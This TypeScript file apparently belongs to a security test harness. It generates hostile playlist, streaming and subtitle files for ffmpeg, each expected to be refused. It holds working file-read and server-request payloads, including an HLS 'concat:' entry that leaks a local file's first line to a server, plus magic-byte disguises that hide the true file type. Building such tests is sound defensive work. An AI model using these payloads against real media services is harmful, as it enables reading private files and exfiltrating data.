/** Texts that ffmpeg takes for media and that name other files: local ones, and addresses. */
import { writeFile } from 'node:fs/promises';
import { basename } from 'node:path';
import type { HostileFile } from './hostile-file.ts';

interface Target {
  /** Absolute path of a playable file that nobody may read. */
  readonly canary: string;
  /** Name of a playable file in the same folder. */
  readonly neighbour: string;
  /** A server that counts who comes. */
  readonly url: string;
}

const hls = (...lines: readonly string[]): string =>
  ['#EXTM3U', '#EXT-X-VERSION:3', '#EXT-X-TARGETDURATION:2', ...lines, '#EXT-X-ENDLIST', ''].join('\n');

const dash = (target: string): string =>
  `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT2S" profiles="urn:mpeg:dash:profile:full:2011"><Period><AdaptationSet mimeType="audio/mp4"><Representation id="1" bandwidth="1"><BaseURL>${target}</BaseURL></Representation></AdaptationSet></Period></MPD>`;

const texts: Readonly<Record<string, (target: Target) => string>> = {
  'hls-absolute': ({ canary }) => hls('#EXTINF:1,', canary),
  'hls-file': ({ canary }) => hls('#EXTINF:1,', `file://${canary}`),
  'hls-neighbour': ({ neighbour }) => hls('#EXTINF:1,', neighbour),
  'hls-http': ({ url }) => hls('#EXTINF:1,', `${url}/segment.ts`),
  // The class of 2016 and 2017: the first line of one file sent to a server as the query of another.
  'hls-concat': ({ canary, url }) => hls('#EXTINF:1,', `concat:${url}/head.txt|file://${canary}`),
  'hls-subfile': ({ canary }) => hls('#EXTINF:1,', `subfile,,start,0,end,5000,,:${canary}`),
  'hls-data': () => hls('#EXTINF:1,', 'data:audio/mpeg;base64,//uQZAAAAAAA'),
  'hls-key': ({ canary, neighbour }) =>
    hls(`#EXT-X-KEY:METHOD=AES-128,URI="file://${canary}",IV=0x0`, '#EXTINF:1,', neighbour),
  'hls-map': ({ canary, neighbour }) => hls(`#EXT-X-MAP:URI="${canary}"`, '#EXTINF:1,', neighbour),
  'hls-master': ({ canary }) => hls('#EXT-X-STREAM-INF:BANDWIDTH=1', canary),
  dash: ({ canary }) => dash(`file://${canary}`),
  'dash-http': ({ url }) => dash(`${url}/segment.mp4`),
  'ffconcat-absolute': ({ canary }) => `ffconcat version 1.0\nfile '${canary}'\n`,
  'ffconcat-neighbour': ({ neighbour }) => `ffconcat version 1.0\nfile '${neighbour}'\n`,
  'ffconcat-option': ({ neighbour }) => `ffconcat version 1.0\noption safe 0\nfile '${neighbour}'\n`,
  'ffconcat-http': ({ url }) => `ffconcat version 1.0\nfile '${url}/a.wav'\n`,
  subrip: ({ canary }) => `1\n00:00:00,000 --> 00:00:02,000\n${canary}\n\n`,
  webvtt: ({ canary }) => `WEBVTT\n\n00:00.000 --> 00:02.000\n${canary}\n`,
  ass: ({ canary }) =>
    `[Script Info]\nScriptType: v4.00+\n\n[Fonts]\nfontname: ${canary}\n\n[Events]\nDialogue: 0,0:00:00.00,0:00:02.00,,,,,,,{\\p1}x\n`,
  sami: ({ canary }) => `<SAMI><BODY><SYNC Start=0><P><IMG SRC="file://${canary}">x</SYNC></BODY></SAMI>`,
  realtext: ({ canary }) => `<window duration="2"><a href="file://${canary}">x</a></window>`,
  mpl2: () => '[0][20]text\n[20][40]text\n',
  microdvd: () => '{0}{25}text\n{25}{50}text\n',
  sdp: ({ url }) =>
    `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\na=control:${url}\nm=audio ${new URL(url).port} RTP/AVP 0\n`,
  m3u: ({ canary }) => `#EXTM3U\n#EXTINF:1,x\n${canary}\n`,
  pls: ({ canary }) => `[playlist]\nFile1=${canary}\nNumberOfEntries=1\n`,
  asx: ({ canary }) => `<asx version="3.0"><entry><ref href="file://${canary}"/></entry></asx>`,
  ffmetadata: ({ canary }) => `;FFMETADATA1\ntitle=${canary}\n`,
  imf: ({ canary }) =>
    `<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><SegmentList>${canary}</SegmentList></CompositionPlaylist>`,
  redirect: ({ url }) => `RTSPtext\nrtsp://${new URL(url).host}/x\n`,
};

const EXTENSIONS = ['mp4', 'mkv', 'mp3', 'ts', 'avi'];

/** Magic numbers in front, so that what a file is cannot be told from its first bytes alone. */
const DISGUISES: Readonly<Record<string, Buffer>> = {
  ftyp: Buffer.from('\0\0\0\x10ftypisom\0\0\0\0', 'latin1'),
  id3: Buffer.from('ID3\x04\0\0\0\0\0\0', 'latin1'),
  riff: Buffer.from('RIFF\0\0\0\0AVI ', 'latin1'),
};

export function playlistFiles(canary: string, url: string): HostileFile[] {
  return Object.entries(texts).flatMap(([kind, text], index) => {
    const extension = EXTENSIONS[index % EXTENSIONS.length];
    const disguise = Object.keys(DISGUISES)[index % 3] ?? '';
    const asFile = (name: string, head: Buffer): HostileFile => ({
      name,
      family: 'playlist',
      expected: 'refused',
      place: (path, neighbour) =>
        writeFile(
          path,
          Buffer.concat([head, Buffer.from(text({ canary, neighbour: basename(neighbour), url }))]),
        ),
    });
    return [
      asFile(`${kind}.${extension}`, Buffer.alloc(0)),
      asFile(`${kind}-after-${disguise}.${extension}`, DISGUISES[disguise] ?? Buffer.alloc(0)),
    ];
  });
}
